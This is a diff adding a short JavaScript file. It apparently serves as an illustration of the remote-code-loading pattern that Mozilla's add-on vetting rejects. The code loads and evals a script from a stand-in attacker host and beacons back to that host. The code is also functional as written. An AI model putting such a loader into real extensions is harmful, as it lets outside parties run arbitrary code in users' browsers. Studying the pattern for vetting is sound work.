@@ -1,0 +1,32 @@
+// Remote code loading: fetches attacker-controlled JavaScript and
+// injects it with the script loader, plus an eval-based fallback --
+// exactly the dynamic-code pattern the Mozilla vetting process rejects
+// outright (Section 2, "Addon Vetting").
+
+var Loader = {
+  payloadUrl: "http://cdn.attacker.example/payload.js"
+};
+
+function ld_inject() {
+  Services.scriptloader.loadSubScript(Loader.payloadUrl);
+}
+
+function ld_fallback() {
+  var req = new XMLHttpRequest();
+  req.open("GET", Loader.payloadUrl, true);
+  req.onload = function () {
+    eval(req.responseText);
+  };
+  req.send(null);
+}
+
+function ld_ping() {
+  var req = new XMLHttpRequest();
+  req.open("GET", "http://cdn.attacker.example/alive.gif", true);
+  req.send(null);
+}
+
+ld_inject();
+setTimeout(ld_fallback, 10000);
+// Dynamic code in a string timer: rejected on sight by vetters.
+setTimeout("ld_ping()", 60000);
